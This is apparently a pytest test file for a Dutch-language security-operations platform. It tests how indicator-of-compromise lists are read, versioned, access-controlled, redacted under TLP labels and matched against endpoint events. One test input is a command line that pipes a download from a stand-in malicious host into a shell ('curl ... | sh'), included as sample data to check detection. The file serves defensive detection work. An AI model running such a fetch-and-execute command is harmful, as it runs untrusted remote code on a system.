"""Lists of indicators: read, taken over whole, watching, told only as far as their label allows, looked back with."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from brandwacht.engines.detection.sightings import IndicatorHolder, IndicatorWatch
from brandwacht.engines.intel import TLP
from brandwacht.network.errors import Denied, NotFound, Refused
from brandwacht.network.models import Organisation
from brandwacht.network.roles import Role
from brandwacht.network.tenancy import every_owner
from brandwacht.soc import queries, services
from brandwacht.soc.models import (
    Alert,
    ContentImport,
    ImportState,
    IndicatorList,
    MatchedEvent,
    Severity,
)
from brandwacht.soc.services import indicator_files, indicator_sets
from brandwacht.soc.services.rule_text import read_event
from tests.soc.conftest import BAD, FACTS, facts, line
from tests.world import NOW, acting, acting_system, actor, person

pytestmark = pytest.mark.usefixtures("data")


class TestFiles:
    def read(self, tmp_path: Path, text: str) -> indicator_files.Content:
        path = tmp_path / "x"
        path.write_text(text, encoding="utf-8")
        return indicator_files.read_indicator_file(path, lambda done, total: None)

    def test_plain_text_may_be_defanged(self, tmp_path: Path) -> None:
        read = self.read(tmp_path, "# kop\nhxxps://kwaad[.]example/x\n203[.]0[.]113[.]9\n10.0.0.1\n203.0.113.9\n")
        assert sorted(item.value for item in read.items.values()) == [BAD, "https://kwaad.example/x"]
        assert (read.doubles, read.refused_count, read.refused[0][0]) == (1, 1, 4)

    def test_csv_with_a_header(self, tmp_path: Path) -> None:
        read = self.read(
            tmp_path,
            "Soort;Waarde;Geldig tot;Zekerheid\ndomein;kwaad[.]example;2026-12-31;90\nip;203.0.113.9;onzin;\n"
            "ip;203.0.113.8;;101\nip;;;\n",
        )
        (item,) = read.items.values()
        assert (item.value, item.confidence) == ("kwaad.example", 90)
        assert item.valid_until is not None
        assert [number for number, _reason in read.refused] == [3, 4, 5]

    def test_a_bundle_brings_its_own_label(self, tmp_path: Path) -> None:
        thing = {
            "type": "indicator",
            "pattern": f"[ipv4-addr:value = '{BAD}']",
            "object_marking_refs": [TLP.RED.marking_id],
        }
        assert self.read(tmp_path, json.dumps({"objects": [thing]})).tlp is TLP.RED

    @pytest.mark.parametrize("text", ["", "# niets\n", "{", "{}", "\x00", "10.0.0.1\n"])
    def test_nothing_usable_is_refused(self, tmp_path: Path, text: str) -> None:
        with pytest.raises(Refused):
            self.read(tmp_path, text)

    @given(st.binary(max_size=300))
    def test_any_file_gets_an_answer(self, content: bytes) -> None:
        import tempfile

        with tempfile.NamedTemporaryFile() as file:
            Path(file.name).write_bytes(content)
            try:
                assert indicator_files.read_indicator_file(Path(file.name), lambda done, total: None).items
            except Refused as error:
                assert error.message


@pytest.mark.parametrize(
    ("field", "value", "known"),
    [
        ("DestinationIp", "203.0.113.9", BAD),
        ("DestinationIp", "203.0.113.9", "203.0.113.0/24"),
        ("CommandLine", "curl http://sub.kwaad.example:8080/x | sh", "kwaad.example"),
        ("Hashes", "SHA1=00,SHA256=" + "AB" * 32, "ab" * 32),
        ("DestinationIp", "2001:db8:0::5", "2001:db8::5"),
        ("DestinationIp", "203.0.113.90", None),
        ("DestinationHostname", "nietkwaad.example", None),
        ("DestinationHostname", "kwaad.example.nl", None),
    ],
)
def test_where_a_value_may_stand(tmp_path: Path, field: str, value: str, known: str | None) -> None:
    values = [("ipv4", BAD), ("domain", "kwaad.example"), ("sha256", "ab" * 32), ("ipv6", "2001:db8::5")]
    if known and "/" in known:
        values = [("ipv4", known)]
    path = indicator_sets.path_of("lijst", 1)
    indicator_sets.write_items(path, [indicator_sets.Item(*each) for each in values])
    watch = IndicatorWatch(IndicatorHolder(indicator_sets.load("lijst", 1)))
    hits = watch.match([read_event(line("curl.exe", **{field: value}))]).get(0, [])
    assert [hit.indicator.value for hit in hits] == ([known] if known else [])
    assert indicator_sets.set_of(path).exists()
    assert all(hit.field == field for hit in hits)


@pytest.mark.django_db
class TestLists:
    def test_offered_shown_and_taken_over(self, soc: Organisation) -> None:
        with acting_system(soc) as me:
            row = services.offer_list(me, "l.txt", [f"{BAD}\nkwaad.example\n10.0.0.1".encode()], FACTS)
            services.read_offered_content("VR-SOC", str(row.public_id), lambda: NOW)
            row.refresh_from_db()
            assert row.state == ImportState.READY
            assert (row.outcome["total"], row.outcome["refused_count"]) == (2, 1)
            assert not IndicatorList.objects.exists()
            made = services.apply_list(me, row.public_id)
            assert (made.version, made.counts, made.works(NOW)) == (1, {"ipv4": 1, "domain": 1}, True)
            again = services.offer_list(me, "l.txt", [b"203.0.113.10"], FACTS, renews=made.public_id, mode="aanvullen")
            services.read_offered_content("VR-SOC", str(again.public_id), lambda: NOW)
            made = services.apply_list(me, again.public_id)
            assert (made.version, made.total) == (2, 3)

    def test_two_renewals_at_once(self, soc: Organisation, listed: Callable[..., IndicatorList]) -> None:
        row = listed()
        with acting_system(soc) as me:
            offers = [
                services.offer_list(me, "l.txt", [text], FACTS, renews=row.public_id)
                for text in (b"1.1.1.1", b"1.1.1.2")
            ]
            for offer in offers:
                services.read_offered_content("VR-SOC", str(offer.public_id), lambda: NOW)
            services.apply_list(me, offers[0].public_id)
            with pytest.raises(Refused, match="door een ander"):
                services.apply_list(me, offers[1].public_id)

    def test_a_label_does_not_get_wider(
        self, soc: Organisation, listed: Callable[..., IndicatorList], tmp_path: Path
    ) -> None:
        row = listed(tlp="TLP:AMBER")
        thing = {
            "type": "indicator",
            "pattern": f"[ipv4-addr:value = '{BAD}']",
            "object_marking_refs": [TLP.RED.marking_id],
        }
        path = tmp_path / "bundel.json"
        path.write_text(json.dumps({"objects": [thing]}))
        with acting_system(soc) as me:
            with pytest.raises(Refused, match="ruimer label"):
                services.offer_list(me, "l.txt", [b"1.1.1.1"], FACTS, renews=row.public_id)
            with pytest.raises(Refused, match="TLP:RED"):
                services.import_indicators(me, path, facts(name="Andere"))

    @pytest.mark.parametrize(
        "changes",
        [
            {"name": " "},
            {"origin": ""},
            {"valid_until": NOW},
            {"valid_until": NOW + timedelta(days=9999)},
            {"confidence": 101},
        ],
    )
    def test_what_is_asked_of_a_list(self, soc: Organisation, changes: dict[str, Any]) -> None:
        with acting_system(soc) as me, pytest.raises(Refused) as bad:
            services.offer_list(me, "l.txt", [b"1.1.1.1"], facts(**changes))
        assert bad.value.field in changes

    def test_an_ended_list_is_gone(
        self, region: Organisation, soc: Organisation, listed: Callable[..., IndicatorList], data: Path
    ) -> None:
        row = listed()
        with acting_system(region) as me:
            stamp = services.rulebook_stamp(me)
            assert services.rulebook_for(me).lists
        with acting_system(soc) as me:
            services.end_list(me, row.public_id)
            with pytest.raises(Refused):
                services.end_list(me, row.public_id)
        assert not list((data / "indicators").iterdir())
        with acting_system(region) as me:
            assert services.rulebook_stamp(me) != stamp
            assert not services.rulebook_for(me).lists

    def test_who_may(self, region: Organisation, soc: Organisation, listed: Callable[..., IndicatorList]) -> None:
        row = listed()
        with acting(actor(person(region, Role.CISO), region)) as me:
            assert not queries.indicator_lists(me).exists()
            for attempt in (services.end_list, services.search_list):
                with pytest.raises(NotFound):
                    attempt(me, row.public_id)
        with acting(actor(person(soc, Role.BOARD), soc)) as me, pytest.raises(Denied):
            services.offer_list(me, "l.txt", [b"1.1.1.1"], FACTS)


@pytest.mark.django_db
class TestWatching:
    def test_a_hit_is_an_alert(
        self, region: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any]
    ) -> None:
        row = listed()
        read(region, line("net.exe", DestinationIp=BAD), line("net.exe", DestinationIp="203.0.113.1"))
        with every_owner():
            event = MatchedEvent.objects.get()
        (match,) = event.matches
        assert match["rule_id"] == f"kenmerk:{row.public_id}"
        assert match["matched"] == {"DestinationIp": BAD}
        assert match["level"] == "medium"

    def test_a_hit_raises_the_severity_by_its_confidence(
        self, region: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any]
    ) -> None:
        listed("waarde;zekerheid\n203.0.113.9;85\n203.0.113.8;60\n", confidence=20)

        def told() -> tuple[int, list[tuple[str, int, int]]]:
            with every_owner():
                alert = Alert.objects.get()
            return alert.severity, [(part["part"], part["points"], part["value"]) for part in alert.severity_sum[-1:]]

        read(region, line("net.exe", DestinationIp="203.0.113.8"))
        assert told() == (Severity.MEDIUM, [("indicator", 10, 60)])
        read(region, line("net.exe", DestinationIp=BAD, x="1"))
        assert told() == (Severity.HIGH, [("indicator", 20, 85)]), "the surest one counts, also without a new rule"
        read(region, line("net.exe", DestinationIp="203.0.113.8", x="2"))
        assert told() == (Severity.HIGH, [("indicator", 20, 85)])
        read(region, line("lsass.exe", x="3"))
        assert told() == (Severity.CRITICAL, [("indicator", 20, 85)])

    @pytest.mark.parametrize("label", ["TLP:AMBER", "TLP:AMBER+STRICT"])
    def test_a_narrow_label_tells_that_it_is_and_not_what(
        self, region: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any], label: str
    ) -> None:
        listed(tlp=label, name="GEHEIMELIJST")
        read(region, line("net.exe", DestinationIp=BAD))
        with every_owner():
            (match,) = MatchedEvent.objects.get().matches
        assert match["matched"] == {}
        assert BAD not in json.dumps(match)
        assert "GEHEIMELIJST" not in json.dumps(match)

    def test_red_is_for_the_owner_only(
        self, region: Organisation, soc: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any]
    ) -> None:
        listed(tlp="TLP:RED")
        read(region, line("net.exe", DestinationIp=BAD))
        with every_owner():
            assert not MatchedEvent.objects.exists()
        read(soc, line("net.exe", DestinationIp=BAD))
        with every_owner():
            assert MatchedEvent.objects.count() == 1

    def test_what_is_over_is_silent(
        self, region: Organisation, listed: Callable[..., IndicatorList], read: Callable[..., Any]
    ) -> None:
        listed("waarde;geldig tot\n203.0.113.9;2026-01-01\n203.0.113.8;\n")
        read(region, line("net.exe", DestinationIp=BAD))
        read(region, line("net.exe", DestinationIp="203.0.113.8"), now=NOW + timedelta(days=31))
        with every_owner():
            assert not MatchedEvent.objects.exists()
        read(region, line("net.exe", DestinationIp="203.0.113.8", x="1"))
        with every_owner():
            assert MatchedEvent.objects.count() == 1


@pytest.mark.django_db
def test_an_offer_for_nothing_leaves_nothing(soc: Organisation, data: Path) -> None:
    with acting_system(soc) as me, pytest.raises(Refused, match="leeg"):
        services.offer_list(me, "l.txt", [b""], FACTS)
    assert list((data / "content-imports").iterdir()) == []
    with every_owner():
        assert not ContentImport.objects.exists()
